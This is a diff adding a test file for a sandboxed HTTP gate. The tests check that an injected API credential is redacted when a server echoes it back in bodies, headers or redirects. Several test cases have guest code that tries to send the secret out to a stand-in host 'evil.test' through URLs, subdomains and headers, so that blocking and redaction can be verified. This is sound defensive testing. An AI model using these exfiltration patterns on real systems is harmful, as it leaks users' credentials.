@@ -1,0 +1,210 @@
+import { mkdtemp, readFile, rm } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import type { RunEvent, RunResult, Ticket } from '../../src/index.ts'
+import { httpPolicy } from '../harness/asking.ts'
+import { openGate } from '../harness/gate.ts'
+import { openSite, type Answer, type Site } from '../harness/site.ts'
+import { dumpState } from '../harness/state-dump.ts'
+import { formsIn, longestBeginning, writtenForms } from '../harness/written-secrets.ts'
+
+/** Awkward on purpose: every escape has something to do. */
+const SECRET = `sk-Live/"4f9a+1c7b&<E2>\\n%7e'=z_Q`
+const FORMS = writtenForms(SECRET)
+const MARK = '[redacted:company]'
+
+const textOf = (value: string | string[] | undefined): string =>
+  Array.isArray(value) ? value.join() : (value ?? '')
+
+/** Answers with the credential that it was sent, as the path says. */
+const echo: Answer = ({ url, headers }, response) => {
+  const held = textOf(headers.authorization).replace('Bearer ', '') || textOf(headers['x-api-key'])
+  const { pathname, searchParams } = new URL(url, 'http://echo.test')
+  const forms = writtenForms(held)
+  switch (pathname) {
+    case '/body':
+      return void response.end(JSON.stringify(forms))
+    case '/html':
+      return void response.end(`<p>${Object.values(forms).join('</p><p>')}</p>`)
+    case '/bytes':
+      return void response.end(
+        Buffer.concat([Buffer.from(held), Buffer.from([0xff, 0xfe]), Buffer.from(held)]),
+      )
+    case '/headers':
+      response.writeHead(200, `Hello ${held}`, [
+        ['x-held', held],
+        ['x-base64', forms.base64 ?? ''],
+        ['x-percent', forms['percent-encoded'] ?? ''],
+        [`x-${forms.hex}`, '1'],
+        ['etag', `"${forms['hex in upper case']}"`],
+      ])
+      return void response.end('see above')
+    case '/reversed':
+      return void response.end([...held].toReversed().join(''))
+    default:
+      return void response
+        .writeHead(302, {
+          location: (searchParams.get('to') ?? '').replace('SECRET', encodeURIComponent(held)),
+        })
+        .end()
+  }
+}
+
+type Told = {
+  readonly result: RunResult
+  readonly events: readonly RunEvent[]
+  readonly tickets: readonly Ticket[]
+  /** Result, events, logs, audit, and all that the state folder holds. */
+  readonly everything: string
+}
+
+let site: Site
+beforeAll(async () => {
+  site = await openSite(echo)
+})
+afterAll(() => site[Symbol.asyncDispose]())
+
+const known = (entry: object = {}, rest: object = {}): object =>
+  httpPolicy(
+    {
+      allowed_domains: [{ domain: site.origin, methods: ['GET', 'POST'], auth: 'company', ...entry }],
+      max_egress_kb: 1024,
+    },
+    { secrets: { company: { from: 'env:COMPANY', bearer: {} } }, ...rest },
+  )
+
+const run = async (code: string, policy: object = known(), input: unknown = site.origin): Promise<Told> => {
+  const folder = await mkdtemp(join(tmpdir(), 'tollgate-h30-'))
+  try {
+    const events: RunEvent[] = []
+    const tickets: Ticket[] = []
+    const state = join(folder, 'state')
+    const auditLog = join(folder, 'audit.log')
+    const gate = await openGate({
+      state,
+      auditLog,
+      powers: { env: { COMPANY: SECRET } },
+      onEvent: (event) => events.push(event),
+    })
+    const approve = (ticket: Ticket): boolean => tickets.push(ticket) > 0
+    const result = await gate.run({ code, policy, input, approve })
+    const audit = JSON.stringify(await gate.audit.read())
+    expect((await gate.audit.verify()).intact).toBe(true)
+    await gate.close()
+    const parts = [JSON.stringify(result), JSON.stringify(events), JSON.stringify(tickets), audit]
+    const everything = [...parts, await readFile(auditLog, 'utf8'), await dumpState(state)].join('\n')
+    return { result, events, tickets, everything }
+  } finally {
+    await rm(folder, { recursive: true })
+  }
+}
+
+const UNDO = `const held = [...await (await http.get(input + '/reversed')).text()].reverse().join('')`
+
+describe('a server that hands the credential back', () => {
+  it.each([
+    ['in its body', `return await (await http.get(input + '/body')).json()`],
+    ['in a page', `return await (await http.get(input + '/html')).text()`],
+    [
+      'among bytes',
+      `return [...await (await http.get(input + '/bytes')).bytes()].map((b) => String.fromCharCode(b)).join('')`,
+    ],
+    [
+      'in its headers',
+      `const { headers, statusText } = await http.get(input + '/headers'); return [headers.entries(), statusText]`,
+    ],
+    [
+      'in a redirect',
+      `const { headers, url } = await http.get(input + '/?to=/SECRET', { redirect: 'manual' }); return [headers.get('location'), url]`,
+    ],
+    [
+      'in the place it redirects to',
+      `const { url } = await http.get(input + '/?to=/body?SECRET'); return url`,
+    ],
+  ])('%s is not understood: neither guest nor record sees it', async (_, code) => {
+    const { result, everything } = await run(code)
+    expect(result.status).toBe('done')
+    expect(JSON.stringify(result.value)).toContain(MARK)
+    expect(formsIn(everything, SECRET)).toEqual([])
+  })
+
+  it('leaves a mark in the place of every form, and JSON that can be read', async () => {
+    const { result } = await run(`return await (await http.get(input + '/body')).json()`)
+    const value = result.value as Record<string, string>
+    expect(Object.keys(value)).toEqual(Object.keys(FORMS))
+    expect(Object.entries(value).filter(([, text]) => !text.includes(MARK))).toEqual([])
+  })
+
+  it('is heard in full where the policy does not know the secret, so each form would have been found', async () => {
+    const policy = httpPolicy({ allowed_domains: [{ domain: site.origin, headers: ['x-api-key'] }] })
+    const code = `return await (await http.get(input.origin + '/body', { headers: { 'x-api-key': input.key } })).json()`
+    const { result, everything } = await run(code, policy, { origin: site.origin, key: SECRET })
+    expect(result.value).toEqual(FORMS)
+    expect(formsIn(everything, SECRET).length).toBeGreaterThanOrEqual(Object.keys(FORMS).length)
+  })
+})
+
+describe('a redirect with the credential in its place', () => {
+  it.each([
+    ['a path that is not allowed', '/closed/SECRET', { paths: ['/'] }],
+    ['a query that is not allowed', '/?SECRET=1', { query: ['to'] }],
+    ['another host', 'http://evil.test/SECRET', {}],
+    ['a name of its own', 'http://SECRET.evil.test/', {}],
+  ])('to %s tells it in no error, hint or change', async (_, to, entry) => {
+    const code = `try { await http.get(input + '/?to=' + encodeURIComponent('${to}')) } catch ({ code, message, hint }) { console.log(code, message, hint) }
+      await http.get(input + '/?to=' + encodeURIComponent('${to}'))`
+    const { result, everything } = await run(code, known(entry))
+    expect(result.error).toMatchObject({ code: 'DENIED_REDIRECT', gate: 'perform' })
+    expect(result.logs[0]?.text).toMatch(/^DENIED_REDIRECT /)
+    expect(formsIn(everything, SECRET)).toEqual([])
+  })
+
+  it('tells no part of it where a text is cut, wherever that is', async () => {
+    const code = `for (let pad = 60; pad < 130; pad += 3)
+        await http.get(input + '/?to=/closed/' + 'a'.repeat(pad) + 'SECRET').catch(({ message }) => console.log(message))
+      await http.get(input + '/?to=/closed/' + 'a'.repeat(90) + 'SECRET')`
+    const { result, everything } = await run(code, known({ paths: ['/'] }))
+    expect(result.logs).toHaveLength(24)
+    expect(longestBeginning(everything, SECRET).length).toBeLessThan(6)
+  })
+})
+
+describe('a guest that undoes what the server did to the credential', () => {
+  it.each([
+    ['in its value', 'return held'],
+    [
+      'in its value, encoded again',
+      'return [encodeURIComponent(held), JSON.stringify(JSON.stringify({ held })), { [held]: held }, held.toUpperCase()]',
+    ],
+    [
+      'in its log',
+      'console.log(held); console.error(JSON.stringify({ held })); console.info({ held }); console.log(`%s`, encodeURIComponent(held))',
+    ],
+    ['in an error', 'throw Object.assign(new Error("no " + held), { name: held, stack: "at " + held })'],
+    ['as what it throws', 'throw { message: held, held }'],
+    [
+      'in a refused URL',
+      'await http.get("http://evil.test/" + encodeURIComponent(held)).catch(({ message }) => console.log(message)); await http.get("http://" + held.replace(/[^a-z0-9-]/gi, "") + ".test/?" + held)',
+    ],
+    ['in a refused header', 'await http.get(input, { headers: { ["x" + held]: held } })'],
+    ['in a refused method', 'await http.request({ url: input, method: held.slice(0, 32) })'],
+    ['in arguments that do not fit', 'await http.request({ url: input, redirect: held })'],
+    ['in an option that nobody knows', 'await http.request({ url: input, [held]: held })'],
+    ['in what it asks a human', 'await http.post(input + "/body?" + encodeURIComponent(held), held)'],
+    ['as an idempotency key', 'await http.post(input + "/body", held, { idempotencyKey: held })'],
+  ])('%s: it is redacted in result, events, tickets, audit and state', async (_, code) => {
+    const { result, everything } = await run(
+      `${UNDO}; ${code}`,
+      known({}, { human_in_loop: ['http.POST *'] }),
+    )
+    expect(everything).toContain(MARK)
+    expect(formsIn(everything, SECRET)).toEqual([])
+    expect(result.runId).toMatch(/^run_/)
+  })
+
+  it('may hold it all the same: that a recipient can hand out a transform of it is said, and not promised away', async () => {
+    const { result } = await run(`${UNDO}; return [held.length, held.slice(0, 8), [...held].join(' ')]`)
+    expect(result.value).toEqual([SECRET.length, SECRET.slice(0, 8), [...SECRET].join(' ')])
+  })
+})
